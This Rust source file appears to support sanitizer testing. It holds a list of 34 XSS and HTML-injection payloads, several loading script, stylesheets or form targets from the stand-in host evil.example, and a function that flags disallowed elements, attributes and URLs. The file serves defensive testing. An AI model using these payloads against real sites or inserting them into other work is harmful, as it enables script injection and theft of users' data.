//! Texts that try to act on the page, and a reader that says what in some HTML could.

/// Attempts to smuggle script, style, frames, forms or foreign requests into a page.
pub(crate) const ATTACKS: [&str; 34] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"alert(1)](x)",
    "![x](x\" onerror=\"alert(1))",
    "[x](https://a.example \"t\" onmouseover=\"alert(1)\")",
    "<javascript:alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=csrf><button>go</button></form>",
    "</section></main><dialog open>gotcha</dialog>",
    "<p style=\"position:fixed;inset:0\" class=\"actions\" id=\"stage\">x</p>",
    "\\href{javascript:alert(1)}{x}",
    "{{ csrf }}{% include 'x' %}<!--<script>alert(1)</script>-->",
];

/// What in some HTML could act: elements and attributes outside a short list, addresses that are
/// not http(s), mailto or the service's own images.
pub(crate) fn dangers(html: &str) -> Vec<String> {
    const ELEMENTS: &str = " a blockquote br code del em h2 h3 h4 h5 h6 hr img li ol ul p pre strong \
        table tbody td th thead tr math mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup \
        msubsup munder mover munderover mtable mtr mtd ";
    const ATTRIBUTES: &str = " href title src alt start align rel target display displaystyle \
        scriptlevel mathvariant stretchy symmetric largeop movablelimits accent lspace rspace width \
        height depth linethickness maxsize class ";
    let mut found = Vec::new();
    for (start, _) in html.match_indices('<') {
        let tag = html[start + 1..].split('>').next().unwrap_or("");
        let name: String =
            tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        if !ELEMENTS.contains(&format!(" {name} ")) {
            found.push(format!("element {tag:?}"));
        }
        let mut rest = &tag[tag.len().min(name.len() + usize::from(tag.starts_with('/')))..];
        while let Some((attribute, after)) = rest.split_once("=\"") {
            let (value, after) = after.split_once('"').unwrap_or((after, ""));
            let attribute = attribute.trim();
            let own = value.starts_with("/media/") || value.starts_with("data:image/");
            let web = value.starts_with("http://") || value.starts_with("https://");
            let fine = match attribute {
                "src" => own,
                "href" => web || value.starts_with("mailto:"),
                "class" => value.starts_with("menv-") || value.starts_with("cell-"),
                other => ATTRIBUTES.contains(&format!(" {other} ")),
            };
            if !fine {
                found.push(format!("attribute {attribute}={value:?}"));
            }
            rest = after;
        }
    }
    found
}
